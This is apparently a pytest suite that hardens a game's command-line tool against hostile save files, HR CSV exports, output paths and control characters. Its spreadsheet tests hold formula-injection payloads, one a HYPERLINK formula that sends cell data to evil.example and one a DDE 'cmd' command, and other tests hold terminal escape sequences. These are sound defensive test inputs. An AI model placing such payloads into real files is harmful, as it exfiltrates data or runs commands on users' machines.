"""Every door of the command line against hostile saves, sessions, HR exports and output paths.

The promise, checked for each: one sentence (never "internal error", never a traceback), a bounded time
(`within_seconds` is a termination guard, not a timing), nothing the user had replaced or cut short. The
window's side of the same files is in tests/ui/test_hostile_files.py; bench/hostile.py measures all of it.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
from pathlib import Path

import pytest

from game.cli import main
from game.debrief.export import spreadsheet_safe
from game.persistence import saves, storage
from game.persistence.problems import SaveError
from game.scenario.loader import load_scenario
from game.workshop.session import Session
from tests.guards import told_plainly, within_seconds

REPO = Path(__file__).resolve().parent.parent
MINIMAL = REPO / "tests" / "fixtures" / "good" / "minimal.yaml"
CONTROLS = ("\x1b", "\x07", "\x9b", "\r", "\u202e")


@pytest.fixture(autouse=True)
def player_files(tmp_path, monkeypatch):
    monkeypatch.setenv(storage.DATA_DIR_VARIABLE, str(tmp_path / "player"))


def run(capsys, *argv: str) -> tuple[int, str, str]:
    with within_seconds(60):
        code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def refused_in_a_sentence(capsys, *argv: str) -> str:
    """Run a command that must fail: exit 1, no output, its error told in one plain sentence; returns it."""
    code, out, err = run(capsys, *argv)
    assert code == 1 and out == "", (code, out, err)
    assert told_plainly(err), err
    lines = err.strip().splitlines()
    assert lines[-1].startswith("error: "), err
    return lines[-1]


@pytest.fixture(scope="module")
def game_record(tmp_path_factory) -> dict:
    save = tmp_path_factory.mktemp("game") / "game.json"
    assert main(["play", str(MINIMAL), "--headless", "--bot", "mixed", "--save", str(save)]) == 0
    return json.loads(save.read_text(encoding="utf-8"))


def session_record(teams: list[str], scenario: Path = MINIMAL) -> dict:
    session = Session.start(load_scenario(scenario), teams, mode="solo" if len(teams) == 1 else "hotseat", seed=3)
    for _ in range(2 * len(teams)):
        session.end_planning()
    return json.loads(saves.save_session(session).read_text(encoding="utf-8"))


def write(folder: Path, name: str, content: object) -> Path:
    path = folder / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content if isinstance(content, str) else json.dumps(content), encoding="utf-8")
    return path


# ------------------------------------------------------------------ files that are not files


def special(folder: Path, kind: str, name: str) -> Path:
    path = folder / name
    if kind == "FIFO":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    else:
        path.symlink_to("/dev/zero")
    return path


COMMANDS = {
    "validate": lambda path, tmp: ["validate", str(path)],
    "play": lambda path, tmp: ["play", str(path), "--headless", "--bot", "idle"],
    "replay": lambda path, tmp: ["replay", str(path)],
    "report": lambda path, tmp: ["report", str(path), "--out", str(tmp / "report")],
    "import-org": lambda path, tmp: ["import-org", str(path), "--out", str(tmp / "org.yaml")],
}


@pytest.mark.parametrize("kind", ["FIFO", "link to /dev/zero", "folder"])
@pytest.mark.parametrize("command", list(COMMANDS))
def test_a_fifo_a_device_or_a_folder_is_refused_at_once_by_every_command(capsys, tmp_path, kind, command):
    path = special(tmp_path, kind, "input.json")
    code, out, err = run(capsys, *COMMANDS[command](path, tmp_path))
    assert code == 1 and told_plainly(out + err), out + err
    assert {"FIFO": "pipe", "link to /dev/zero": "device", "folder": "folder"}[kind] in out + err


def test_a_save_naming_a_fifo_as_its_scenario_is_refused(capsys, tmp_path, game_record):
    fifo = special(tmp_path, "FIFO", "scenario.yaml")
    save = write(tmp_path, "game.json", dict(game_record, scenario=str(fifo), scenario_id="nothing-shipped"))
    assert "nothing-shipped" in refused_in_a_sentence(capsys, "replay", str(save))


# ------------------------------------------------------------------ damaged saves: a located sentence, never more


def deep(levels: int) -> str:
    return "[" * levels + "]" * levels


GAME_DAMAGE = {
    "nested 100,000 deep": (lambda r: deep(100_000), "nested more than"),
    "nested inside the actions": (lambda r: '{"format": 2, "actions": ' + deep(50) + "}", "nested more than"),
    "difficulty: []": (lambda r: dict(r, difficulty=[]), "difficulty"),
    "difficulty: {}": (lambda r: dict(r, difficulty={}), "difficulty"),
    "difficulty: extreme": (lambda r: dict(r, difficulty="extreme"), "'easy', 'normal' or 'hard'"),
    "seed: 1e300": (lambda r: dict(r, seed=1e300), "seed holds a number where a whole number"),
    "seed: true": (lambda r: dict(r, seed=True), "seed holds true/false"),
    "seed: 10^40": (lambda r: dict(r, seed=10**40), "seed is"),
    "seed of 5,000 digits": (
        lambda r: json.dumps(dict(r, seed=0)).replace('"seed": 0', '"seed": ' + "9" * 5000),
        "not valid JSON",
    ),
    "a lone surrogate in the bot's name": (lambda r: dict(r, bot="\ud800"), "bot holds a character"),
    "a NUL in the bot's name": (lambda r: dict(r, bot="a\x00b"), "bot holds a character"),
    "a bot name of a million characters": (lambda r: dict(r, bot="x" * 1_000_000), "bot is longer"),
    "scenario: 5": (lambda r: dict(r, scenario=5), "scenario holds a whole number where text"),
    "scenario_digest: []": (lambda r: dict(r, scenario_digest=[]), "scenario_digest holds a list"),
    "an action kind that is a list": (lambda r: dict(r, actions=[{"kind": ["escalate"]}]), "actions[0].kind"),
    "an action field that is an object": (lambda r: dict(r, actions=[{"kind": "share", "person": {}}]), "person"),
    "an action that names nobody": (lambda r: dict(r, actions=[{"kind": "escalate", "person": "zz"}]), "damaged"),
    "a session given to replay": (lambda r: {"kind": "session", "format": 2}, "report"),
    "a foreign object": (lambda r: {"name": "holiday photos"}, "not a Signal Race"),
}


@pytest.mark.parametrize("damage", list(GAME_DAMAGE))
def test_a_damaged_game_save_is_refused_in_one_located_sentence(capsys, tmp_path, game_record, damage):
    make, words = GAME_DAMAGE[damage]
    save = write(tmp_path, "game.json", make(dict(game_record)))
    sentence = refused_in_a_sentence(capsys, "replay", str(save))
    assert str(save) in sentence and words in sentence, sentence


@pytest.mark.parametrize("damage", ["difficulty: []", "a lone surrogate in the bot's name", "nested 100,000 deep"])
def test_report_refuses_what_replay_refuses_with_the_same_sentence(capsys, tmp_path, game_record, damage):
    save = write(tmp_path, "game.json", GAME_DAMAGE[damage][0](dict(game_record)))
    replayed = refused_in_a_sentence(capsys, "replay", str(save))
    reported = refused_in_a_sentence(capsys, "report", str(save), "--out", str(tmp_path / "r"))
    assert reported == replayed and not (tmp_path / "r").exists()


SESSION_DAMAGE = {
    "difficulty: []": (lambda r: dict(r, difficulty=[]), "difficulty"),
    "mode: {}": (lambda r: dict(r, mode={}), "mode"),
    "teams: a string": (lambda r: dict(r, teams="Orion"), "teams holds text where a list"),
    "no teams": (lambda r: dict(r, teams=[]), "teams is empty"),
    "nine teams": (lambda r: dict(r, teams=r["teams"] * 9), "teams is longer"),
    "a team name with a lone surrogate": (lambda r: _team(r, name="Or\udc80ion"), "teams[0].name holds a character"),
    "a team name of 100,000 characters": (lambda r: _team(r, name="O" * 100_000), "teams[0].name is longer"),
    "colour: 10^9": (lambda r: _team(r, colour=10**9), "teams[0].colour is 1000000000"),
    "turn_seconds: -5": (lambda r: dict(r, turn_seconds=-5), "turn_seconds is -5"),
    "turn_seconds: 1e308": (lambda r: dict(r, turn_seconds=1e308), "turn_seconds holds a number"),
    "active: '0'": (lambda r: dict(r, active="0"), "active holds text"),
    "active: 7 of 1 team": (lambda r: dict(r, active=7), "team 8"),
    "saved_at: 12": (lambda r: dict(r, saved_at=12), "saved_at"),
    "a move of another kind": (lambda r: _team(r, actions=[{"kind": "teleport"}]), "damaged"),
    "no scenario_id": (lambda r: {k: v for k, v in r.items() if k != "scenario_id"}, "the key scenario_id is missing"),
}


def _team(record: dict, **changes: object) -> dict:
    return dict(record, teams=[dict(record["teams"][0], **changes)])


@pytest.mark.parametrize("damage", list(SESSION_DAMAGE))
def test_a_damaged_session_gives_the_window_and_report_the_same_located_sentence(capsys, tmp_path, damage):
    make, words = SESSION_DAMAGE[damage]
    path = write(saves.saves_dir(), "workshop.json", make(session_record(["Orion"])))
    with pytest.raises(SaveError) as raised:
        saves.load_session(path)
    assert words in raised.value.reason, raised.value.reason
    from game.i18n import Translator

    assert raised.value.sentence(Translator("fr")) != raised.value.sentence()
    reported = refused_in_a_sentence(capsys, "report", str(path), "--out", str(tmp_path / "r"))
    assert raised.value.reason in reported


READER_DAMAGE = {
    "over the size limit": lambda: "x" * (16 * 2**20 + 1),
    "nested 5,000 deep": lambda: deep(5000),
    "cut short": lambda: json.dumps(session_record(["Orion"]))[:200],
    "not JSON": lambda: "kind: session\n",
    "empty": lambda: "",
    "binary": lambda: b"\x00\x01\x02\xff",
}


@pytest.mark.parametrize("damage", list(READER_DAMAGE))
def test_replay_report_and_the_window_read_a_damaged_file_with_one_limit_and_one_sentence(capsys, tmp_path, damage):
    path = write(saves.saves_dir(), "workshop.json", READER_DAMAGE[damage]())
    with pytest.raises(SaveError) as raised:
        saves.load_session(path)
    for argv in (["replay", str(path)], ["report", str(path), "--out", str(tmp_path / "r")]):
        assert raised.value.reason in refused_in_a_sentence(capsys, *argv)


# ------------------------------------------------------------------ what reaches the terminal


def scenario_with(tmp_path: Path, **changes: object) -> Path:
    import yaml

    data = yaml.safe_load(MINIMAL.read_text(encoding="utf-8")) | changes
    return write(tmp_path, "s.yaml", yaml.safe_dump(data, allow_unicode=True))


def no_raw_controls(text: str) -> bool:
    return not any(control in text for control in CONTROLS)


@pytest.mark.parametrize("title", ["Clear\x1b[2J\x1b]0;owned\x07", "Good\rBAD", "Report \u202egnp.exe", "two\nlines"])
def test_control_characters_in_a_title_are_escaped_on_the_terminal(capsys, tmp_path, title):
    path = scenario_with(tmp_path, title=title)
    save = tmp_path / "game.json"
    code, out, err = run(capsys, "play", str(path), "--headless", "--bot", "mixed", "--save", str(save))
    assert code == 0 and no_raw_controls(out + err)
    assert out.splitlines()[0].startswith(title.split("\n")[0].translate({0x1B: None, 0x0D: None, 0x202E: None})[:4])
    code, replayed, err = run(capsys, "replay", str(save))
    assert code == 0 and replayed == out


def test_an_escape_sequence_in_a_file_is_shown_escaped_by_validate_and_import_org(capsys, tmp_path):
    scenario = write(tmp_path, "s.yaml", MINIMAL.read_text(encoding="utf-8") + '"turns\\e[2J\\a": 3\n')
    code, out, err = run(capsys, "validate", str(scenario))
    assert code == 1 and no_raw_controls(out + err) and "\\x1b[2J" in out
    export = write(tmp_path, "s.csv", "id,nom\x1b[2J\x07,title,department,manager_id\na,A,,X,\n")
    code, out, err = run(capsys, "import-org", str(export), "--out", str(tmp_path / "o.yaml"))
    assert code == 1 and no_raw_controls(out + err) and "\\x1b[2J\\x07" in err


def test_an_escape_sequence_in_a_saved_bot_name_is_shown_escaped(capsys, tmp_path, game_record):
    save = write(tmp_path, "game.json", dict(game_record, bot="mixed\x1b]0;owned\x07"))
    code, out, err = run(capsys, "replay", str(save))
    assert code == 0 and no_raw_controls(out + err) and "\\x1b]0;owned\\x07" in out


# ------------------------------------------------------------------ what reaches a spreadsheet


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1"]


def test_team_names_that_are_formulas_are_neutralised_in_events_csv(capsys, tmp_path):
    record = session_record(FORMULAS[:4])
    save = write(tmp_path, "s.json", record)
    code, _, err = run(capsys, "report", str(save), "--out", str(tmp_path / "r"))
    assert code == 0, err
    rows = list(csv.reader(io.StringIO((tmp_path / "r" / "events.csv").read_text(encoding="utf-8"))))
    cells = [cell for row in rows[1:] for cell in row]
    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(cell)]
    assert not live
    assert {f"'{team}" for team in FORMULAS[:4]} <= set(cells)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("\t=1", "'\t=1"), ("\r@x", "'\r@x"), ("-2+3", "'-2+3"), ("-2", "-2"), ("+3.5e2", "+3.5e2")]
    + [("Léa", "Léa"), (-2, -2), (0.5, 0.5), ("", "")],
)
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(value, written):
    assert spreadsheet_safe(value) == written


# ------------------------------------------------------------------ nothing lost, nothing replaced without asking


def test_play_save_never_replaces_an_unrelated_file_unless_forced(capsys, tmp_path):
    notes = write(tmp_path, "notes.txt", "my workshop notes\n")
    sentence = refused_in_a_sentence(capsys, "play", str(MINIMAL), "--headless", "--bot", "idle", "--save", str(notes))
    assert "--force" in sentence and notes.read_text(encoding="utf-8") == "my workshop notes\n"
    assert run(capsys, "play", str(MINIMAL), "--headless", "--bot", "idle", "--save", str(notes))[0] == 1
    code, _, _ = run(capsys, "play", str(MINIMAL), "--headless", "--bot", "idle", "--save", str(notes), "--force")
    assert code == 0 and json.loads(notes.read_text(encoding="utf-8"))["bot"] == "idle"
    code, _, err = run(capsys, "play", str(MINIMAL), "--headless", "--bot", "mixed", "--save", str(notes))
    assert code == 0, err  # now a save of this game: replaced without asking


def test_report_never_replaces_someone_elses_report_unless_forced(capsys, tmp_path, game_record):
    save = write(tmp_path, "game.json", game_record)
    out = tmp_path / "r"
    out.mkdir()
    theirs = write(out, "report.html", "<html>the board's quarterly report</html>")
    sentence = refused_in_a_sentence(capsys, "report", str(save), "--out", str(out))
    assert "report.html" in sentence and "--force" in sentence
    assert [p.name for p in out.iterdir()] == ["report.html"] and "quarterly" in theirs.read_text(encoding="utf-8")
    assert run(capsys, "report", str(save), "--out", str(out), "--force")[0] == 0
    assert run(capsys, "report", str(save), "--out", str(out))[0] == 0  # its own report: replaced without asking
    assert "quarterly" not in theirs.read_text(encoding="utf-8")


def disk_full_on_write(monkeypatch, nth: int) -> None:
    """The `nth` fsync of a temporary file fails as on a full disk."""
    real, calls = os.fsync, []

    def fsync(descriptor: int) -> None:
        calls.append(descriptor)
        if len(calls) == nth:
            raise OSError(errno.ENOSPC, "No space left on device")
        real(descriptor)

    monkeypatch.setattr(os, "fsync", fsync)


def test_a_report_that_fails_on_a_full_disk_leaves_the_previous_report_whole(
    capsys, tmp_path, game_record, monkeypatch
):
    save = write(tmp_path, "game.json", game_record)
    out = tmp_path / "r"
    assert run(capsys, "report", str(save), "--out", str(out))[0] == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    disk_full_on_write(monkeypatch, 3)  # the HTML, written last
    sentence = refused_in_a_sentence(capsys, "report", str(save), "--out", str(out), "--lang", "fr")
    assert "No space left" in sentence
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_import_org_force_on_a_full_disk_leaves_the_old_scenario_whole(capsys, tmp_path, monkeypatch):
    target = write(tmp_path, "org.yaml", MINIMAL.read_text(encoding="utf-8"))
    export = write(tmp_path, "staff.csv", "id,name,title,department,manager_id\na,Ana,,X,\nb,Bob,,X,a\n")
    disk_full_on_write(monkeypatch, 1)
    refused_in_a_sentence(capsys, "import-org", str(export), "--out", str(target), "--force")
    assert target.read_text(encoding="utf-8") == MINIMAL.read_text(encoding="utf-8")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
